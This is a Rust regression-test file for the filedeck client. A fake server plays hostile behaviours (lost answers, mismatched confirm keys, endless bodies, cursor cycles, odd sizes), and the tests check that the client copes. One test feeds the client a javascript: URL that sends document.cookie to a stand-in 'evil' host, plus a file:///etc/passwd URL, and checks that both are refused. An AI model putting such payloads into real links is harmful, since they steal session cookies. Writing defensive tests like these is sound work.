//! Regression tests for what an outsider's attack on filedeck found, against a hand-written
//! fake server: it plays a hostile or broken server the reference server cannot play (an
//! answer lost after the whole body was read, a confirm naming another file, a download
//! body that never ends, cursors that go round, sizes that are no sizes). Each test gives
//! it one small behaviour and drives the real client, the worker or the binary against it.
//!
//! Every test here failed on the code before its fix; where a bug made the client loop or
//! hang, the call runs under a deadline that fails the test instead.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation,
    reason = "tests and benchmarks stop at the first surprise"
)]

mod common;

use std::collections::HashMap;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::Request;
use axum::http::{Method, StatusCode, header};
use axum::response::{IntoResponse, Response};
use filedeck::api::{ApiError, FileEntry, Progress, UploadRequest};
use filedeck::app::msg::{ConflictPolicy, OnConflict};
use filedeck::app::transfer_types::TransferState;
use filedeck::app::{Command, Event};
use filedeck::worker::{self, Queue};
use futures_util::StreamExt;
use serde_json::{Value, json};
use tokio::sync::mpsc::UnboundedReceiver;
use tokio_util::sync::CancellationToken;

const KEY: &str = "hostile-test-key";
const BIN: &str = env!("CARGO_BIN_EXE_filedeck");

/// Long enough for a loaded machine, short enough that a loop or a hang fails the test
/// rather than the run; a test that passes ends well before it.
const HANG: Duration = Duration::from_secs(10);

/// One request as the fake saw it (the body read whole before any answer).
struct Req {
    method: Method,
    path: String,
    query: HashMap<String, String>,
    body: Bytes,
    /// `http://127.0.0.1:PORT`, for the presigned URLs it hands out.
    base: String,
}

impl Req {
    fn q(&self, name: &str) -> &str {
        self.query.get(name).map(String::as_str).unwrap_or("")
    }
}

/// A running fake and the record of every request it answered.
struct Fake {
    base: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Fake {
    /// Serve `answer` on 127.0.0.1, port 0.
    async fn start(answer: impl Fn(&Req) -> Response + Send + Sync + 'static) -> Fake {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let handle = Arc::new(answer);
        let app = Router::new().fallback({
            let base = base.clone();
            let seen = seen.clone();
            move |req: Request| {
                let (base, seen, handle) = (base.clone(), seen.clone(), handle.clone());
                async move {
                    let (parts, body) = req.into_parts();
                    let body = axum::body::to_bytes(body, usize::MAX)
                        .await
                        .unwrap_or_default();
                    let query = parts
                        .uri
                        .query()
                        .map(|q| {
                            url::form_urlencoded::parse(q.as_bytes())
                                .into_owned()
                                .collect()
                        })
                        .unwrap_or_default();
                    seen.lock()
                        .unwrap()
                        .push(format!("{} {}", parts.method, parts.uri));
                    handle(&Req {
                        method: parts.method,
                        path: parts.uri.path().to_string(),
                        query,
                        body,
                        base,
                    })
                }
            }
        });
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Fake { base, seen }
    }

    /// Every request so far whose "METHOD /path?query" starts with `start`.
    fn seen(&self, start: &str) -> Vec<String> {
        let seen = self.seen.lock().unwrap();
        seen.iter()
            .filter(|s| s.starts_with(start))
            .cloned()
            .collect()
    }

    fn client(
        &self,
        tweak: impl FnOnce(&mut filedeck::api::ClientConfig),
    ) -> filedeck::api::Client {
        common::client(&self.base, KEY, tweak)
    }
}

fn answer(status: u16, body: Value) -> Response {
    let status = StatusCode::from_u16(status).unwrap();
    (status, axum::Json(body)).into_response()
}

fn not_found() -> Response {
    answer(
        404,
        json!({"error": {"code": "not_found", "message": "no such route here"}}),
    )
}

fn listing(files: Value) -> Response {
    answer(200, json!({"files": files, "next_cursor": null}))
}

/// The download route's answer: a presigned URL on the fake itself.
fn download_url(r: &Req) -> Response {
    answer(
        200,
        json!({"url": format!("{}/blob/{}", r.base, r.q("key")), "expires_in": 3600}),
    )
}

/// A KMS-encrypted object's first byte: its ETag is no MD5, so nothing hashes it.
fn unhashable_first_byte(total: u64) -> Response {
    Response::builder()
        .status(StatusCode::PARTIAL_CONTENT)
        .header(header::CONTENT_RANGE, format!("bytes 0-0/{total}"))
        .header(header::ETAG, "\"0123456789abcdef0123456789abcdef\"")
        .header("x-amz-server-side-encryption", "aws:kms")
        .body(Body::from("O"))
        .unwrap()
}

fn entry(v: Value) -> FileEntry {
    serde_json::from_value::<FileEntry>(v).unwrap().normalise()
}

/// Events until `done` says so; a failure with what came if `within` passes first.
async fn events_until(
    rx: &mut UnboundedReceiver<Event>,
    within: Duration,
    mut done: impl FnMut(&Event) -> bool,
) -> Vec<Event> {
    let deadline = tokio::time::Instant::now() + within;
    let mut seen = Vec::new();
    loop {
        match tokio::time::timeout_at(deadline, rx.recv()).await {
            Ok(Some(ev)) => {
                let stop = done(&ev);
                seen.push(ev);
                if stop {
                    return seen;
                }
            }
            Ok(None) => panic!("the worker hung up; events so far: {seen:#?}"),
            Err(_) => panic!("no end within {within:?}; events so far: {seen:#?}"),
        }
    }
}

/// Run the binary with a key, and HOME and the state directory in `home`; killed (and the
/// test failed) if it outlives [`HANG`].
async fn filedeck(endpoint: &str, home: &Path, args: &[&str]) -> std::process::Output {
    let mut cmd = tokio::process::Command::new(BIN);
    cmd.args(args)
        .env("FILEDECK_ENDPOINT", endpoint)
        .env("FILEDECK_API_KEY", KEY)
        .env("HOME", home)
        .env("XDG_STATE_HOME", home.join("state"))
        .env_remove("FILEDECK_LARGE_UPLOAD_THRESHOLD")
        .env_remove("FILEDECK_STALL_TIMEOUT")
        .kill_on_drop(true);
    tokio::time::timeout(HANG, cmd.output())
        .await
        .unwrap_or_else(|_| panic!("filedeck {args:?} did not end within {HANG:?}"))
        .unwrap()
}

/// Item 2: a multipart upload whose answer is lost (502 after the whole body was read),
/// where the folder holds an older file of that name and size that no hash can tell
/// apart, and no `created_at` says is old. Taking it for the upload made
/// `put --on-conflict overwrite` exit 0 with the new bytes nowhere on the server; the
/// upload must be repeated instead.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn put_overwrite_after_a_lost_answer_never_takes_an_older_file_for_the_upload() {
    const NEW: &[u8] = b"NEW!";
    let posts = Arc::new(AtomicUsize::new(0));
    let stored: Arc<Mutex<Option<Bytes>>> = Arc::default();
    let fake = Fake::start({
        let (posts, stored) = (posts.clone(), stored.clone());
        move |r| match (r.method.as_str(), r.path.as_str()) {
            // The hosted service's shape: no created_at, no sha256.
            ("GET", "/v1/files") => {
                listing(json!([{"key": "old", "name": "a.txt", "path": "raw/", "size": 4}]))
            }
            ("POST", "/v1/files/upload") => {
                if posts.fetch_add(1, Ordering::SeqCst) == 0 {
                    return answer(
                        502,
                        json!({"error": {"code": "internal", "message": "bad gateway"}}),
                    );
                }
                *stored.lock().unwrap() = Some(r.body.clone());
                answer(
                    201,
                    json!({"key": "new", "name": "a.txt", "path": "raw/", "size": NEW.len(),
                           "sha256": common::sha256_hex(NEW)}),
                )
            }
            ("GET", "/v1/files/download") => download_url(r),
            ("GET", "/blob/old") => unhashable_first_byte(4),
            ("DELETE", "/v1/files") => StatusCode::NO_CONTENT.into_response(),
            _ => not_found(),
        }
    })
    .await;
    let home = tempfile::tempdir().unwrap();
    let local = common::write_file(home.path(), "a.txt", NEW);

    let o = filedeck(
        &fake.base,
        home.path(),
        &[
            "put",
            "-w",
            "ws",
            local.to_str().unwrap(),
            "--to",
            "raw/",
            "--on-conflict",
            "overwrite",
        ],
    )
    .await;
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stderr}");
    let stored = stored.lock().unwrap().clone();
    assert!(
        stored.is_some_and(|b| b.windows(NEW.len()).any(|w| w == NEW)),
        "put exited 0 but no upload the server kept carried the new bytes \
         ({} POSTs); stderr: {stderr}",
        posts.load(Ordering::SeqCst)
    );
    assert_eq!(posts.load(Ordering::SeqCst), 2, "{stderr}");
    // The new file is in and verified: "overwrite" may remove the older one now.
    assert_eq!(
        fake.seen("DELETE"),
        ["DELETE /v1/files?workspace_id=ws&key=old"]
    );
}

/// Item 3: "overwrite" where the new upload cannot be verified (the answer is `{"key"}`
/// alone, and the ranged GET of its bytes tells neither size nor MD5) must keep the older
/// file, with a note saying so; it used to delete it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn overwrite_keeps_the_older_file_when_the_new_upload_is_unverified() {
    let fake = Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
        ("GET", "/v1/files") => {
            listing(json!([{"key": "old", "name": "a.txt", "path": "raw/", "size": 4}]))
        }
        ("POST", "/v1/files/upload") => answer(201, json!({"key": "new"})),
        ("GET", "/v1/files/download") => download_url(r),
        ("GET", "/blob/new") => Response::builder()
            .status(StatusCode::PARTIAL_CONTENT)
            .header(header::CONTENT_RANGE, "bytes 0-0/*")
            .body(Body::from("N"))
            .unwrap(),
        ("GET", "/blob/old") => unhashable_first_byte(4),
        ("DELETE", "/v1/files") => StatusCode::NO_CONTENT.into_response(),
        _ => not_found(),
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let local = common::write_file(dir.path(), "a.txt", b"NEW!");
    let (commands, mut events) = worker::spawn_with(
        fake.client(|_| {}),
        1,
        Queue::Off,
        ConflictPolicy::Fixed(OnConflict::Overwrite),
    );
    commands
        .send(Command::UploadPaths {
            ws: "ws".into(),
            locals: vec![local.display().to_string()],
            folder: "raw/".into(),
            description: None,
        })
        .unwrap();

    let seen = events_until(
        &mut events,
        HANG,
        |ev| matches!(ev, Event::TransferState { state, .. } if !state.is_active()),
    )
    .await;
    let Some(Event::TransferState { state, .. }) = seen.last() else {
        unreachable!()
    };
    assert_eq!(*state, TransferState::Done, "{seen:#?}");
    assert_eq!(fake.seen("DELETE"), Vec::<String>::new(), "{seen:#?}");
    let notes: Vec<&String> = seen
        .iter()
        .filter_map(|ev| match ev {
            Event::TransferNote { note, .. } => Some(note),
            _ => None,
        })
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.contains("old") && n.contains("kept")),
        "no note that the older file was kept: {notes:?}"
    );
}

/// Item 4: a large-flow confirm that answers another file's key (`victim`) must be
/// refused; checking the upload under that key found "wrong bytes" and deleted `victim`.
#[tokio::test]
async fn a_confirm_answering_another_key_is_refused_and_nothing_removed() {
    const VICTIM: &[u8] = b"precious data of another file";
    let fake = Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
        ("GET", "/v1/files") => listing(
            json!([{"key": "victim", "name": "results.csv", "path": "other/", "size": VICTIM.len()}]),
        ),
        ("POST", "/v1/files/upload-url") => answer(
            200,
            json!({"uploadUrl": format!("{}/put/new", r.base), "fileKey": "new", "expires_in": 3600}),
        ),
        ("PUT", "/put/new") => StatusCode::OK.into_response(),
        ("POST", "/v1/files/upload-confirm") => answer(200, json!({"key": "victim"})),
        ("GET", "/v1/files/download") => download_url(r),
        ("GET", "/blob/victim") => Response::builder()
            .status(StatusCode::PARTIAL_CONTENT)
            .header(
                header::CONTENT_RANGE,
                format!("bytes 0-0/{}", VICTIM.len()),
            )
            .header(header::ETAG, format!("\"{}\"", common::md5_hex(VICTIM)))
            .body(Body::from(&VICTIM[..1]))
            .unwrap(),
        ("DELETE", "/v1/files") => StatusCode::NO_CONTENT.into_response(),
        _ => not_found(),
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let local = common::write_file(dir.path(), "new.csv", b"my own bytes");
    let client = fake.client(|c| c.large_threshold = 0);

    let result = client
        .upload(
            &UploadRequest {
                workspace: "ws",
                local: &local,
                folder: "raw/",
                name: None,
                description: None,
            },
            &Progress::new(),
            &CancellationToken::new(),
        )
        .await;
    assert!(
        !fake.seen("POST /v1/files/upload-confirm").is_empty(),
        "the upload never reached its confirm: {:?}",
        fake.seen("")
    );
    assert_eq!(fake.seen("DELETE"), Vec::<String>::new(), "{result:?}");
    match result {
        Err(ApiError::Protocol(why)) => assert!(why.contains("victim"), "{why}"),
        other => panic!("expected the confirm refused, got {other:?}"),
    }
}

/// Item 6: a download body that never ends (chunked, no Content-Length) must be cut off
/// at the listed size with an integrity error; it used to be written until the disk was
/// full. The fake sends 64 MiB and then holds the body open for ever.
#[tokio::test]
async fn a_download_body_that_never_ends_is_cut_off_at_the_listed_size() {
    let fake = Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
        ("GET", "/v1/files/download") => download_url(r),
        ("GET", "/blob/endless") => {
            let chunk = Bytes::from(vec![b'A'; 64 * 1024]);
            let body = futures_util::stream::iter(
                std::iter::repeat_n(chunk, 1024).map(Ok::<_, std::io::Error>),
            )
            .chain(futures_util::stream::pending());
            Response::builder()
                .header(header::CONTENT_TYPE, "application/octet-stream")
                .body(Body::from_stream(body))
                .unwrap()
        }
        _ => not_found(),
    })
    .await;
    let client = fake.client(|_| {});
    let file = entry(json!({"key": "endless", "name": "endless", "path": "", "size": 5}));
    let dir = tempfile::tempdir().unwrap();

    let result = tokio::time::timeout(HANG, common::download(&client, "ws", &file, dir.path()))
        .await
        .unwrap_or_else(|_| panic!("the download was still writing after {HANG:?}"));
    match result {
        Err(ApiError::Integrity(why)) => assert!(why.contains("more than"), "{why}"),
        other => panic!("expected an integrity error, got {other:?}"),
    }
    let written: u64 = common::files_under(&dir.path().join("out"))
        .iter()
        .map(|(_, p)| std::fs::metadata(p).unwrap().len())
        .sum();
    assert!(written <= 5, "{written} bytes written for a 5-byte file");
}

/// A listing whose cursors go round: after A comes B, after B comes A.
async fn cursor_cycle() -> Fake {
    Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
        ("GET", "/v1/files") => {
            let c = r.q("cursor");
            let next = if c == "A" { "B" } else { "A" };
            answer(
                200,
                json!({"files": [{"key": format!("f{c}"), "name": format!("f{c}"), "path": "", "size": 1}],
                       "next_cursor": next}),
            )
        }
        _ => not_found(),
    })
    .await
}

/// Item 8, the client (`ls` and every lookup): A, B, A, B… ends with an error.
#[tokio::test]
async fn a_cursor_seen_before_ends_list_all_with_an_error() {
    let fake = cursor_cycle().await;
    let client = fake.client(|_| {});
    let result = tokio::time::timeout(HANG, client.list_all("ws", ""))
        .await
        .unwrap_or_else(|_| {
            panic!(
                "list_all still going after {HANG:?} and {} pages",
                fake.seen("GET").len()
            )
        });
    match result {
        Err(ApiError::Protocol(why)) => assert!(why.contains("cursor"), "{why}"),
        other => panic!("expected a protocol error, got {other:?}"),
    }
    assert!(fake.seen("GET").len() <= 3, "{:?}", fake.seen("GET"));
}

/// Item 8, the worker's listing (the browser): A, B, A, B… ends with `ListFailed`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cursor_seen_before_ends_the_workers_listing() {
    let fake = cursor_cycle().await;
    let (commands, mut events) = worker::spawn(fake.client(|_| {}), 1, Queue::Off);
    commands
        .send(Command::List {
            req: 7,
            ws: "ws".into(),
            prefix: String::new(),
        })
        .unwrap();
    let mut pages = 0;
    let seen = events_until(&mut events, HANG, |ev| match ev {
        Event::ListPage { req: 7, done, .. } => {
            assert!(!done, "the cycle cannot end the listing as complete");
            pages += 1;
            assert!(pages <= 3, "page {pages} of a cursor cycle");
            false
        }
        Event::ListFailed { req: 7, .. } => true,
        _ => false,
    })
    .await;
    let Some(Event::ListFailed { error, .. }) = seen.last() else {
        unreachable!()
    };
    assert!(error.contains("cursor"), "{error}");
}

/// Item 9: one entry with a size that is no size (negative, a string, fractional, an
/// object) is an entry of unknown size, not a failed listing.
#[tokio::test]
async fn an_odd_size_in_one_entry_is_unknown_not_a_failed_listing() {
    let fake = Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
        ("GET", "/v1/files") => listing(json!([
            {"key": "neg", "name": "neg", "path": "", "size": -1},
            {"key": "str", "name": "str", "path": "", "size": "12"},
            {"key": "frac", "name": "frac", "path": "", "size": 1.5},
            {"key": "obj", "name": "obj", "path": "", "size": {}},
            {"key": "good", "name": "good", "path": "", "size": 3},
        ])),
        _ => not_found(),
    })
    .await;
    let client = fake.client(|_| {});
    let listing = tokio::time::timeout(HANG, client.list_all("ws", ""))
        .await
        .unwrap()
        .expect("one odd size must not fail the listing");
    let sizes: HashMap<String, Option<u64>> =
        listing.files.into_iter().map(|f| (f.key, f.size)).collect();
    let want: HashMap<String, Option<u64>> = [
        ("neg", None),
        ("str", None),
        ("frac", None),
        ("obj", None),
        ("good", Some(3)),
    ]
    .into_iter()
    .map(|(k, s)| (k.to_string(), s))
    .collect();
    assert_eq!(sizes, want);
}

/// A "download link" is http or https: a server answering `javascript:` or `file:` gets
/// an error, never a URL fetched or copied to the clipboard as a link (`Y`).
#[tokio::test]
async fn a_presigned_url_that_is_not_http_is_refused() {
    let fake = Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
        ("GET", "/v1/files/download") => {
            let url = match r.q("key") {
                "js" => "javascript:fetch(\"//evil/\"+document.cookie)",
                _ => "file:///etc/passwd",
            };
            answer(200, json!({"url": url, "expires_in": 3600}))
        }
        _ => not_found(),
    })
    .await;
    let client = fake.client(|_| {});
    for key in ["js", "file"] {
        match client.download_link("ws", key).await {
            Err(ApiError::Protocol(why)) => assert!(why.contains("unusable"), "{why}"),
            other => panic!("{key}: expected a refusal, got {other:?}"),
        }
    }
}
